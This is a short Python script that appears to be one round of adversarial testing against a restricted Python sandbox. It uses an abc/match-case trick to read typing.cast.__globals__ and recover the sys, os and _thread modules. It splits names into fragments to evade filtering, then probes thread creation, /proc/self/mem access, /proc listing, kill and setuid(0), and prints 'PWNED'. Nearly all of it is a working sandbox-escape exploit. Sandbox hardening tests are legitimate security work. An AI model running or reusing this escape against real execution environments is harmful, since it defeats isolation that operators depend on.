# adversary round 7: after the 001 escape: threads (_thread.start_new_thread), mmap, os.open('/proc/self/mem'), os.open of a directory fd -> which layer stops each?
import abc, json, typing

ma = '__match_' + 'args__'
def read(obj, name):
    X = type('X', (abc.ABC,), {ma: (name,)})
    json.X = X
    class P(json.X):
        pass
    P.register(type(obj))
    match obj:
        case P(v):
            return v

s = read(typing.cast, '__glo' + 'bals__')['s' + 'ys']
o = s.modules['o' + 's']
th = s.modules['_th' + 'read']
tests = {
    'start_new_thread': lambda: th.start_new_thread(print, ('thread ran',)),
    'os.open /proc/self/mem': lambda: o.open('/proc/self/mem', o.O_RDONLY),
    'os.open /proc/self (dir)': lambda: o.open('/proc/self', o.O_RDONLY),
    'os.listdir /proc': lambda: o.listdir('/proc')[:5],
    'os.kill self 0': lambda: o.kill(o.getpid(), 0),
    'os.setuid 0': lambda: o.setuid(0),
}
for k, f in tests.items():
    try:
        print(k, '->', f())
    except Exception as e:
        print(k, '->', type(e).__name__, str(e)[:80])
print('PWN' + 'ED (sys/os held; the rows above show which capabilities still hold)')
